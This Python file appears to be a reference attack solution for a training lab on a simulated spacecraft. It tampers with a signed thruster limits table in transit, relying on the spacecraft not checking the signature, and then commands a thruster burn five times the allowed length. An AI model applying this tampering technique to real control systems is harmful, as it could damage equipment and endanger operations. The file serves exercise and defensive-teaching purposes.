"""Reference attack for table-load: run on the attacker workstation, as the student (a
flight director's mission-control account, ~/mission-control.txt).

1. Read the limits table flight dynamics sent (~/limits-table.txt: v2, 4000 ms, signed).
2. Change it on its way: the longest burn becomes 60000 ms; the signature stays as it was
   (it no longer matches, and nothing on board checks it).
3. TABLE_LOAD the changed table: the spacecraft applies it.
4. THRUSTER_FIRE for 20000 ms: five times what the real table allows, executed.

Exit status 0 when both executed; 1 when the spacecraft refused the table or the burn; 2
when a step failed.
"""

from __future__ import annotations

import sys
from pathlib import Path

from labctl.range.missionclient import MissionControl, MissionControlError, handout_fields

TABLE_FILE = Path.home() / "limits-table.txt"
LIFTED_MS = 60000
BURN_MS = 20000


def main() -> int:
    try:
        table = handout_fields(TABLE_FILE)
        for line in TABLE_FILE.read_text(encoding="utf-8").splitlines():
            if line.startswith("#"):
                print(line)  # what flight dynamics wrote on it (the change ticket)
        mc = MissionControl.from_file()
        mc.wait_linked()
        print(f"flight dynamics' table: v{table['version']}, {table['max_burn_ms']} ms, signed")
        row = mc.send(
            "TABLE_LOAD",
            table=int(table["table"]),
            version=int(table["version"]),
            max_burn_ms=LIFTED_MS,
            thruster_enabled=int(table["thruster_enabled"]),
            signature=table["signature"],
        )
        print(f"TABLE_LOAD with max_burn_ms {LIFTED_MS} (signature unchanged): {row['status']}")
        if row["status"] != "completed":
            return 1
        row = mc.send("THRUSTER_FIRE", duration_ms=BURN_MS)
        print(f"THRUSTER_FIRE {BURN_MS} ms: {row['status']}")
        return 0 if row["status"] == "completed" else 1
    except (MissionControlError, KeyError, ValueError, OSError) as exc:
        print(f"attack failed: {exc}")
        return 2


if __name__ == "__main__":
    sys.exit(main())
